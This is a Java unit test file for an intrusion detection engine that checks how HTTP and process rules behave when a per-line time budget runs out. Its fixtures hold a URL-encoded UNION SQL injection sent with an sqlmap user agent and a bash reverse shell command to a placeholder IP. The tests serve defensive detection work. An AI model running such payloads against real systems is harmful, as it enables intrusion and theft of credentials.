package dev.vigil.rules;

import dev.vigil.rules.load.RuleSet;
import dev.vigil.detect.http.HttpRules;
import dev.vigil.detect.process.ProcessRules;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.detect.Detection;
import dev.vigil.engine.Engine;
import dev.vigil.engine.Problem;
import dev.vigil.engine.ScanListener;
import dev.vigil.engine.ScanSummary;
import dev.vigil.event.HttpRequest;
import dev.vigil.event.Origin;
import dev.vigil.event.ProcessStart;
import dev.vigil.ingest.Source;
import dev.vigil.rules.match.LineBudget;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The per-line budget, the last resort behind linear matching: an event out of time still gets
 * its literal rules, what they find is reported, and the line is reported as a problem.
 */
class LineBudgetTest {
    private static final AlertCatalogue CATALOGUE = AlertCatalogue.builtIn();
    private static final RuleSet HTTP = HttpRules.builtInRules(CATALOGUE);

    /** A known scanner's agent (a literal-list rule) sending a UNION injection (regex and tokenizer rules). */
    private static HttpRequest scannerInjecting(long line) {
        return new HttpRequest(new Origin("t.log", line, 0), 0, "203.0.113.5", null, "GET",
                "/item.php?id=1%27%20union%20select%20password%20from%20users--%20-", "HTTP/1.1", 200, 10, "-",
                "sqlmap/1.7.2#stable (https://sqlmap.org)", "shop.example", -1, null);
    }

    private static List<String> rules(List<Detection> ds) {
        return ds.stream().map(Detection::ruleId).toList();
    }

    @Test
    void withinBudgetEveryRuleRuns() {
        List<Detection> found = new ArrayList<>();
        HttpRules.detector(HTTP, false).inspect(scannerInjecting(1), found::add);
        assertThat(rules(found)).contains("http.scanner.user-agent-list", "http.sqli.tokenizer");
    }

    @Test
    void outOfBudgetTheLiteralRulesStillRunAndTheEventIsReported() {
        List<Detection> found = new ArrayList<>();
        HttpRules spent = HttpRules.detector(HTTP, false, Duration.ZERO);
        assertThatThrownBy(() -> spent.inspect(scannerInjecting(1), found::add))
                .isInstanceOf(LineBudget.OverBudget.class)
                .hasMessageContaining("rule evaluation stopped after 0 ms")
                .hasMessageContaining("not run");
        assertThat(rules(found)).contains("http.scanner.user-agent-list").doesNotContain("http.sqli.tokenizer");
    }

    @Test
    void aLongLineRunsOutOfASmallBudgetPartWay() {
        // 64 KB of distinct parameters, each an injection: far more than a millisecond of regex work
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < 1200; i++) {
            sb.append("id").append(i).append("=").append(i).append("%27%20union%20select%20password%20from%20users--%20-&");
        }
        String q = sb.toString();
        HttpRequest r = new HttpRequest(new Origin("t.log", 7, 0), 0, "203.0.113.5", null, "GET", "/item.php?" + q,
                "HTTP/1.1", 200, 10, "-", "sqlmap/1.7.2#stable (https://sqlmap.org)", "shop.example", -1, null);
        List<Detection> found = new ArrayList<>();
        assertThatThrownBy(() -> HttpRules.detector(HTTP, false, Duration.ofMillis(1)).inspect(r, found::add))
                .isInstanceOf(LineBudget.OverBudget.class).hasMessageContaining("after 1 ms");
        assertThat(rules(found)).contains("http.scanner.user-agent-list");
    }

    @Test
    void outOfBudgetProcessRulesReportTheEventToo() {
        ProcessRules spent = ProcessRules.detector(ProcessRules.builtInRules(CATALOGUE), CATALOGUE, false, Duration.ZERO);
        ProcessStart p = new ProcessStart(new Origin("p.jsonl", 3, 0), 0, "web01", 10, 1, "/bin/bash",
                "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", null, null, null, "www-data", "/", null, null,
                null);
        List<Detection> found = new ArrayList<>();
        assertThatThrownBy(() -> spent.inspect(p, found::add)).isInstanceOf(LineBudget.OverBudget.class);
        List<Detection> all = new ArrayList<>();
        ProcessRules.detector(ProcessRules.builtInRules(CATALOGUE), CATALOGUE, false).inspect(p, all::add);
        assertThat(all).isNotEmpty();
        assertThat(all.size()).isGreaterThan(found.size());
    }

    @Test
    void theEngineReportsTheLineAndKeepsWhatWasFound() throws Exception {
        String ok = "203.0.113.9 - - [28/Nov/2026:10:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n";
        String attack = "203.0.113.5 - - [28/Nov/2026:10:00:01 +0000] \"GET /item.php?id=1%27%20union%20select%20password"
                + "%20from%20users--%20- HTTP/1.1\" 200 10 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"\n";
        Engine engine = Engine.builder().threads(1).detector(HttpRules.detector(HTTP, false, Duration.ZERO)).build();
        List<Detection> found = new ArrayList<>();
        ScanSummary s = engine.scan(List.of(Source.of("access.log", (ok + attack).getBytes(StandardCharsets.UTF_8))),
                new ScanListener() {
                    @Override
                    public void onDetection(Detection d) {
                        found.add(d);
                    }
                });
        List<Problem> problems = s.sources().get(0).problems();
        // with no budget at all, every line with a candidate regex rule runs out (the first one too)
        assertThat(problems).extracting(Problem::line).contains(2L);
        assertThat(problems.get(problems.size() - 1).toString()).startsWith("access.log:2: ")
                .contains("rule evaluation stopped");
        assertThat(found).extracting(d -> d.origin().line()).containsOnly(2L);
        assertThat(rules(found)).contains("http.scanner.user-agent-list");
        // a line over budget is hostile input, not a detector bug: reported, not counted as a failure
        assertThat(s.detectorFailures()).isEmpty();
    }
}
